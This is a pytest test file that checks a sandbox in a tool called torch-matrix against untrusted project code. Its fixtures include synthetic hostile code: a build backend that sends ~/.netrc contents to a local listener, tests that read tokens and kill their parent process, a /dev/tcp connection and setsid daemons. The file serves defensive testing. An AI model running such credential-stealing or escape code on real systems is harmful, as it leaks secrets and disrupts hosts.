"""Issue 43: the code an ecosystem run runs is untrusted (each project's build and tests). Six
attacks, each a synthetic project on the synthetic index (torch 2.5.0 vs 2.6.0, real uv venvs,
real pytest), through ``torch-matrix ecosystem run``, each failing on the code before the
sandbox (edges/sandbox.py):

- a test forges another project's result (``../../../../projects/ok/candidate.json``);
- a side whose torch cannot be installed (``--candidate 9.9.9``) is evidence;
- two runs into one ``--out`` at once;
- a ``setsid``/``env -i`` daemon holds the side past its budget (and ``sleep infinity``);
- a test kills its parent (``os.kill(os.getppid(), SIGKILL)``): the run itself;
- a test and the build code read ``~/.netrc`` and an exported token, write into the home and
  reach a listener on the host.

Then what is no evidence (a requirement the index lacks, a sdist it lacks, a memory limit
nothing starts under, tests that do not collect) is never regressed, fixed or same-fail. And the
confinement holds for a non-root user too (run as one where we are root; said loudly where it
cannot be).
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from tests.synthetic_wheels import build_index, downstream_wheels

pytestmark = pytest.mark.e2e

FLIT = '[build-system]\nrequires = ["flit_core>=3.4,<5"]\nbuild-backend = "flit_core.buildapi"\n'
SECRETS = {
    "GITHUB_TOKEN": "ghp-secret-token-h43",
    "AWS_SECRET_ACCESS_KEY": "aws-secret-key-h43",
    "HF_TOKEN": "hf-secret-token-h43",
}
NETRC_SECRET = "netrc-secret-password-h43"


def _project(root: Path, name: str, test: str, pyproject: str = FLIT, **files: str) -> Path:
    tree = root / name
    (tree / name).mkdir(parents=True)
    (tree / name / "__init__.py").write_text('"""A synthetic project."""\n__version__ = "1.0"\n')
    (tree / "pyproject.toml").write_text(
        pyproject + f'[project]\nname = "{name}"\nversion = "1.0"\ndescription = "x"\n'
    )
    (tree / "tests").mkdir()
    (tree / "tests" / f"test_{name}.py").write_text(test)
    for path, text in files.items():
        (tree / path).write_text(text)
    return tree


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    tmp = tmp_path_factory.mktemp("sandbox")
    index = build_index(tmp / "index", downstream_wheels())
    home = tmp / "home"
    home.mkdir()
    (home / ".netrc").write_text(f"machine example.org login me password {NETRC_SECRET}\n")
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("TORCH_MATRIX_", "UV_", "PIP_")) and k != "VIRTUAL_ENV"
    }
    env.update(
        UV_CACHE_DIR=str(tmp / "uv-cache"),
        TORCH_MATRIX_CACHE_DIR=str(tmp / "tm-cache"),
        HOME=str(home),
        **SECRETS,
    )
    return {"tmp": tmp, "index": index.url, "env": env, "home": home}


def _write_projects(world: dict[str, Any], name: str, body: str) -> Path:
    path = world["tmp"] / f"{name}.toml"
    path.write_text(body)
    return path


def _args(world: dict[str, Any], projects: Path, out: Path, *extra: str) -> list[str]:
    return [
        sys.executable,
        "-m",
        "torch_matrix",
        "ecosystem",
        "run",
        str(projects),
        "--baseline",
        "2.5.0",
        "--candidate",
        "2.6.0",
        "--index",
        world["index"],
        "--out",
        str(out),
        "--quiet",
        *extra,
    ]


def _run(
    world: dict[str, Any], projects: Path, out: Path, *extra: str, timeout: float = 600
) -> subprocess.CompletedProcess:
    return subprocess.run(
        _args(world, projects, out, *extra),
        capture_output=True,
        text=True,
        env=world["env"],
        cwd=world["tmp"],
        timeout=timeout,
    )


def _classes(world: dict[str, Any], out: Path) -> dict[str, dict[str, Any]]:
    done = subprocess.run(
        [sys.executable, "-m", "torch_matrix", "ecosystem", "report", str(out)],
        capture_output=True,
        text=True,
        env=world["env"],
        cwd=world["tmp"],
        timeout=300,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads((out / "ecosystem.json").read_text())["projects"]


OK_TEST = "def test_ok():\n    import torch\n    assert torch.__version__\n"


def test_a_test_cannot_forge_another_project_s_result(world: dict[str, Any]) -> None:
    """``forger`` runs after ``ok`` and writes a failing candidate result over ``ok``'s, at every
    depth its tree could sit under the run directory. Before: ok read regressed."""
    sources = world["tmp"] / "forgery"
    forged = {
        "schema": 1,
        "project": "ok",
        "role": "candidate",
        "torch": "2.6.0",
        "status": "failed",
        "exit_code": 1,
        "tests": {"tests/test_ok.py::test_ok": "failed"},
        "messages": {"tests/test_ok.py::test_ok": "forged by another project"},
        "summary": "1 failed",
    }
    _project(sources, "ok", OK_TEST)
    _project(
        sources,
        "forger",
        "import json\nfrom pathlib import Path\n\n\ndef test_forge():\n"
        "    for depth in range(1, 10):\n"
        "        target = Path('../' * depth + 'projects/ok/candidate.json')\n"
        "        if target.parent.is_dir():\n"
        f"            target.write_text(json.dumps({forged!r}))\n",
    )
    projects = _write_projects(
        world,
        "forgery",
        f'[[project]]\nname = "ok"\npath = "{sources / "ok"}"\n\n'
        f'[[project]]\nname = "forger"\npath = "{sources / "forger"}"\n',
    )
    out = world["tmp"] / "run-forgery"
    done = _run(world, projects, out)
    assert done.returncode == 0, done.stderr[-3000:]
    found = _classes(world, out)
    assert found["ok"]["class"] == "same-pass", found["ok"]["evidence"]
    side = json.loads((out / "projects/ok/candidate.json").read_text())
    assert side["status"] == "passed" and "forged" not in json.dumps(side)
    assert side["confinement"].startswith("bwrap:"), side["confinement"]


def test_a_torch_the_index_lacks_is_refused_and_an_install_failure_is_no_evidence(
    world: dict[str, Any],
) -> None:
    """``--candidate 9.9.9`` (a typo): refused at the estimate, one line and a hint, nothing
    installed; swapped, the same. A project whose own requirement cannot be installed: spurious
    (not installed), never same-fail. Before: every passing project regressed (swapped: fixed)."""
    sources = world["tmp"] / "uninstallable"
    _project(sources, "ok", OK_TEST)
    _project(sources, "needy", OK_TEST)
    projects = _write_projects(
        world,
        "uninstallable",
        f'[[project]]\nname = "ok"\npath = "{sources / "ok"}"\n\n'
        f'[[project]]\nname = "needy"\npath = "{sources / "needy"}"\n'
        'requires = ["no-such-package-h43"]\n',
    )
    for role, other in (("candidate", "baseline"), ("baseline", "candidate")):
        out = world["tmp"] / f"run-typo-{role}"
        args = _args(world, projects, out)
        args[args.index(f"--{role}") + 1] = "9.9.9"
        done = subprocess.run(
            args, capture_output=True, text=True, env=world["env"], cwd=world["tmp"], timeout=300
        )
        assert done.returncode == 2, (role, done.stderr[-2000:])
        lines = [line for line in done.stderr.splitlines() if line.strip()]
        assert any("torch 9.9.9 is not on the index" in line for line in lines), lines
        assert any(line.lstrip().startswith("hint:") for line in lines), lines
        assert "Traceback" not in done.stderr
        assert not (out / "projects").exists(), "nothing installed, no result"
    out = world["tmp"] / "run-needy"
    done = _run(world, projects, out)
    assert done.returncode == 0, done.stderr[-3000:]
    found = _classes(world, out)
    assert found["ok"]["class"] == "same-pass"
    assert found["needy"]["class"] == "spurious", found["needy"]
    assert found["needy"]["spurious"] == "not-installed"
    assert "install failed" in found["needy"]["evidence"]


def test_two_runs_into_one_out_the_second_is_refused_naming_the_first(
    world: dict[str, Any],
) -> None:
    sources = world["tmp"] / "tworuns"
    _project(sources, "slowpoke", "import time\n\n\ndef test_slow():\n    time.sleep(25)\n")
    projects = _write_projects(
        world, "tworuns", f'[[project]]\nname = "slowpoke"\npath = "{sources / "slowpoke"}"\n'
    )
    out = world["tmp"] / "run-two"
    first = subprocess.Popen(
        _args(world, projects, out),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=world["env"],
        cwd=world["tmp"],
    )
    try:
        deadline = time.monotonic() + 120
        while not (out / "projects" / "slowpoke").exists():
            assert first.poll() is None, first.communicate()[1][-2000:]
            assert time.monotonic() < deadline, "the first run never started its project"
            time.sleep(0.2)
        second = _run(world, projects, out, timeout=300)
        assert second.returncode == 2, second.stderr[-2000:]
        lines = [line for line in second.stderr.splitlines() if line.strip()]
        assert len(lines) == 2 and lines[1].lstrip().startswith("hint:"), lines
        assert f"another torch-matrix run (pid {first.pid})" in lines[0], lines
        assert "Traceback" not in second.stderr
    finally:
        _, err = first.communicate(timeout=300)
    assert first.returncode == 0, err[-3000:]
    assert _classes(world, out)["slowpoke"]["class"] == "same-pass"


def _marked(tag: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            if tag.encode() in cmdline:
                found.append(int(entry))
    return found


def test_a_daemon_cannot_hold_the_side_past_its_budget(world: dict[str, Any]) -> None:
    """``(setsid env -i sleep ... &); pytest`` and a test that leaves ``sleep infinity`` running
    (holding pytest's output): the side ends at its budget, and so does every process it started.
    Before: the run waited for the daemon (151 s for a 150 s sleep; forever for sleep infinity)."""
    tag = f"tm-h43-daemon-{uuid.uuid4().hex[:8]}"
    sources = world["tmp"] / "daemons"
    _project(sources, "detacher", OK_TEST)
    _project(
        sources,
        "holder",
        "import subprocess\n\n\ndef test_leaves_a_daemon():\n"
        f"    subprocess.Popen(['setsid', 'bash', '-c', 'exec -a {tag}-infinity sleep infinity'])\n",
    )
    projects = _write_projects(
        world,
        "daemons",
        "[defaults]\nbudget = 15\n\n"
        f'[[project]]\nname = "detacher"\npath = "{sources / "detacher"}"\n'
        f"command = \"(setsid env -i bash -c 'exec -a {tag}-600 sleep 600' &); "
        'python -m pytest -q -p no:cacheprovider tests"\n\n'
        f'[[project]]\nname = "holder"\npath = "{sources / "holder"}"\n'
        'command = "python -m pytest -s -q -p no:cacheprovider tests"\n',
    )
    out = world["tmp"] / "run-daemons"
    began = time.monotonic()
    try:
        done = _run(world, projects, out, timeout=240)
    except subprocess.TimeoutExpired:
        pytest.fail("the run was still held by a daemon after 240 s (budget: 15 s a side)")
    finally:
        left = _marked(tag)
        for pid in left:  # ours: started by this test's projects
            os.kill(pid, signal.SIGKILL)
    assert done.returncode == 0, done.stderr[-3000:]
    assert not left, f"processes of the sides outlived them: {left}"
    assert time.monotonic() - began < 200
    found = _classes(world, out)
    for name in ("detacher", "holder"):
        for role in ("baseline", "candidate"):
            side = json.loads((out / f"projects/{name}/{role}.json").read_text())
            assert side["seconds"] < 60, (name, role, side["seconds"], side["detail"])
    assert found["detacher"]["class"] == "same-pass", found["detacher"]


def test_a_test_cannot_kill_the_run(world: dict[str, Any]) -> None:
    """``os.kill(os.getppid(), SIGKILL)``: before, the parent was torch-matrix itself (rc 137, the
    projects after it never ran)."""
    sources = world["tmp"] / "killer"
    _project(
        sources,
        "killer",
        "import os\nimport signal\n\n\ndef test_kills_its_parent():\n"
        "    os.kill(os.getppid(), signal.SIGKILL)\n",
    )
    _project(sources, "ok", OK_TEST)
    projects = _write_projects(
        world,
        "killer",
        f'[[project]]\nname = "killer"\npath = "{sources / "killer"}"\n\n'
        f'[[project]]\nname = "ok"\npath = "{sources / "ok"}"\n',
    )
    out = world["tmp"] / "run-killer"
    done = _run(world, projects, out)
    assert done.returncode == 0, (done.returncode, done.stderr[-3000:])
    found = _classes(world, out)
    assert found["ok"]["class"] == "same-pass"
    assert "killer" in found


SNOOP_TEST = (
    "import os\nfrom pathlib import Path\n\n\ndef test_snoops():\n"
    "    seen = [Path(os.path.expanduser('~/.netrc')).read_text()\n"
    "            if os.path.exists(os.path.expanduser('~/.netrc')) else 'no netrc']\n"
    "    seen += [f'{k}={v}' for k, v in os.environ.items() if 'TOKEN' in k or 'SECRET' in k]\n"
    "    Path(os.path.expanduser('~/pwned-by-test')).write_text('x')\n"
    "    print('SEEN', seen)\n"
    "    assert not any('secret' in s for s in seen), seen\n"
)
SNOOP_BACKEND = """import os
import socket

from flit_core.buildapi import (  # noqa: F401
    build_editable,
    build_sdist,
    build_wheel,
    get_requires_for_build_editable,
    get_requires_for_build_sdist,
    get_requires_for_build_wheel,
    prepare_metadata_for_build_editable,
    prepare_metadata_for_build_wheel,
)

try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
        netrc = os.path.expanduser("~/.netrc")
        s.sendall(b"build code was here " + (open(netrc, "rb").read() if os.path.exists(netrc) else b""))
except OSError:
    pass
try:
    open(os.path.expanduser("~/pwned-by-build"), "w").write("x")
except OSError:
    pass
"""


def test_home_secrets_and_host_are_out_of_reach(world: dict[str, Any]) -> None:
    """The test reads ~/.netrc and the tokens we export, and writes into the home; the build code
    (an in-tree backend) does the same and calls a listener on the host. Before: all of it worked,
    and the secrets reached the run's logs."""
    heard: list[bytes] = []
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(3)
                try:
                    heard.append(conn.recv(65536))
                except OSError:
                    heard.append(b"(connected)")

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    sources = world["tmp"] / "snoop"
    _project(
        sources,
        "snoop",
        SNOOP_TEST,
        pyproject='[build-system]\nrequires = ["flit_core>=3.4,<5"]\n'
        'build-backend = "snoop_backend"\nbackend-path = ["."]\n',
        **{"snoop_backend.py": SNOOP_BACKEND.format(port=listener.getsockname()[1])},
    )
    projects = _write_projects(
        world, "snoop", f'[[project]]\nname = "snoop"\npath = "{sources / "snoop"}"\n'
    )
    out = world["tmp"] / "run-snoop"
    try:
        done = _run(world, projects, out)
    finally:
        stop.set()
        thread.join(5)
        listener.close()
    assert done.returncode == 0, done.stderr[-3000:]
    assert not heard, f"the build code reached a listener on the host: {heard}"
    home = world["home"]
    assert not (home / "pwned-by-test").exists() and not (home / "pwned-by-build").exists()
    everything = "".join(p.read_text(errors="replace") for p in out.rglob("*") if p.is_file())
    for secret in (NETRC_SECRET, *SECRETS.values()):
        assert secret not in everything, f"{secret} reached the run's files"
    assert _classes(world, out)["snoop"]["class"] == "same-pass"


def test_what_is_no_evidence_is_never_a_verdict(world: dict[str, Any]) -> None:
    """A sdist the index lacks, a memory limit nothing starts under, tests that import a helper
    the source does not ship: spurious with the reason (the collection error itself shown), never
    same-fail. Before: each read same-fail ("fails on both sides")."""
    sources = world["tmp"] / "noevidence"
    _project(sources, "tiny", OK_TEST)
    _project(
        sources,
        "helperless",
        "from tests.helpers import make_data\n\n\ndef test_uses_helper():\n"
        "    assert make_data()\n",
    )
    (sources / "helperless" / "tests" / "__init__.py").write_text("")
    projects = _write_projects(
        world,
        "noevidence",
        '[[project]]\nname = "gone"\nsdist = "no-such-sdist-h43==1.0"\n\n'
        f'[[project]]\nname = "tiny"\npath = "{sources / "tiny"}"\nmemory = 0.01\n\n'
        f'[[project]]\nname = "helperless"\npath = "{sources / "helperless"}"\n',
    )
    out = world["tmp"] / "run-noevidence"
    done = _run(world, projects, out)
    assert done.returncode == 0, done.stderr[-3000:]
    found = _classes(world, out)
    assert {name: p["class"] for name, p in found.items()} == {
        "gone": "spurious",
        "tiny": "spurious",
        "helperless": "spurious",
    }, {name: (p["class"], p["evidence"]) for name, p in found.items()}
    assert found["gone"]["spurious"] == "not-installed"
    assert found["tiny"]["spurious"] == "out-of-memory", found["tiny"]["evidence"]
    assert found["helperless"]["spurious"] == "harness-fault"
    assert "tests/test_helperless.py" in found["helperless"]["evidence"]
    assert "helpers" in found["helperless"]["evidence"], found["helperless"]["evidence"]


# One confined command doing everything the attacks do, run by the sandbox module itself with
# the system's Python (a non-root user cannot reach a virtual environment under /root).
DRIVER = r"""
import json, os, socket, subprocess, sys, tempfile, threading
from pathlib import Path
from torch_matrix.edges import sandbox

found = sandbox.detect()
if not found.on:
    print(json.dumps({"none": found.why_none}))
    sys.exit(0)
tag = sys.argv[1]
root = Path(tempfile.mkdtemp())
records = root / "run"
box = records / "work" / "box"
box.mkdir(parents=True)
(records / "result.json").write_text("harness")
home = root / "home"
home.mkdir()
(home / ".netrc").write_text("password NETRC-SECRET")
heard = []
listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(4)
def listen():
    while True:
        conn, _ = listener.accept()
        heard.append(1)
        conn.close()
threading.Thread(target=listen, daemon=True).start()
port = listener.getsockname()[1]
script = "\n".join([
    f"echo forged > {records}/result.json",
    f"echo x > {home}/pwned",
    f"cat {home}/.netrc ~/.netrc",
    f"(exec 3<>/dev/tcp/127.0.0.1/{port}) && echo REACHED-THE-HOST",
    f"echo mine > {box}/mine",
    f"(setsid env -i bash -c 'exec -a {tag} sleep 600' &)",
    "kill -9 $PPID",
    'echo "TOKEN=$GITHUB_TOKEN"',
])
outer = {"HOME": str(home), "GITHUB_TOKEN": "TOKEN-SECRET", "PATH": os.environ["PATH"]}
command = sandbox.command(
    found, ["bash", "-c", script], cwd=box, env=sandbox.allowed_env(outer, {}),
    writable=[box], hidden=[records], network=False,
)
done = subprocess.run(command, capture_output=True, text=True, timeout=120, env=outer)
print(json.dumps({
    "rc": done.returncode, "output": done.stdout + done.stderr, "heard": len(heard),
    "result": (records / "result.json").read_text(), "pwned": (home / "pwned").exists(),
    "mine": (box / "mine").read_text() if (box / "mine").exists() else "",
}))
"""


def _as_user(user: str) -> list[str]:
    """The prefix that runs a command as ``user`` ("" = as we are); skips loudly where no
    unprivileged user can be had."""
    if not user or os.geteuid() != 0:
        return []  # as we are (a non-root session is the unprivileged user already)
    if not shutil.which("setpriv") or not shutil.which("useradd"):
        pytest.skip("LOUD SKIP: as root, a non-root run needs setpriv and useradd")
    if subprocess.run(["id", "-u", user], capture_output=True).returncode != 0:
        made = subprocess.run(
            ["useradd", "--system", "--no-create-home", user], capture_output=True
        )
        if made.returncode != 0:
            pytest.skip(f"LOUD SKIP: cannot create the user {user}: {made.stderr!r}")
    uid = subprocess.run(["id", "-u", user], capture_output=True, text=True).stdout.strip()
    gid = subprocess.run(["id", "-g", user], capture_output=True, text=True).stdout.strip()
    return ["setpriv", f"--reuid={uid}", f"--regid={gid}", "--clear-groups", "--"]


@pytest.mark.parametrize("user", ["", "tmsandbox"], ids=["as-we-are", "as-non-root"])
def test_the_sandbox_holds_for_root_and_for_a_non_root_user(user: str) -> None:
    """The sandbox itself, as root and as an unprivileged user (bubblewrap in a user namespace):
    a confined command writes over the run's records and into the home, reads ~/.netrc and a
    token, calls a listener on the host, leaves a setsid daemon and kills its parent. Only its own
    tree changes; nothing else is reached; the daemon ends with it; the harness lives on."""
    python = "/usr/bin/python3" if user and os.geteuid() == 0 else sys.executable
    if not os.access(python, os.X_OK):
        pytest.skip(f"LOUD SKIP: no system Python at {python} for the non-root user")
    tag = f"tm-h43-sbx-{uuid.uuid4().hex[:8]}"
    repo = str(Path(__file__).resolve().parent.parent)
    try:
        done = subprocess.run(
            [*_as_user(user), python, "-c", DRIVER, tag],
            capture_output=True,
            text=True,
            timeout=180,
            env={"PATH": os.environ["PATH"], "PYTHONPATH": repo, "HOME": "/nonexistent"},
            cwd="/",
        )
    finally:
        left = _marked(tag)
        for pid in left:  # ours: started by this test's confined command
            os.kill(pid, signal.SIGKILL)
    assert done.returncode == 0, done.stderr[-3000:]
    found = json.loads(done.stdout.strip().splitlines()[-1])
    if "none" in found:
        pytest.skip(f"LOUD SKIP: no sandbox here for {user or 'this user'}: {found['none']}")
    assert found["result"] == "harness", found
    assert not found["pwned"] and found["mine"] == "mine\n", found
    assert "NETRC-SECRET" not in found["output"] and "TOKEN-SECRET" not in found["output"]
    assert "REACHED-THE-HOST" not in found["output"] and found["heard"] == 0, found
    assert not left, f"the daemon outlived the sandbox: {left}"
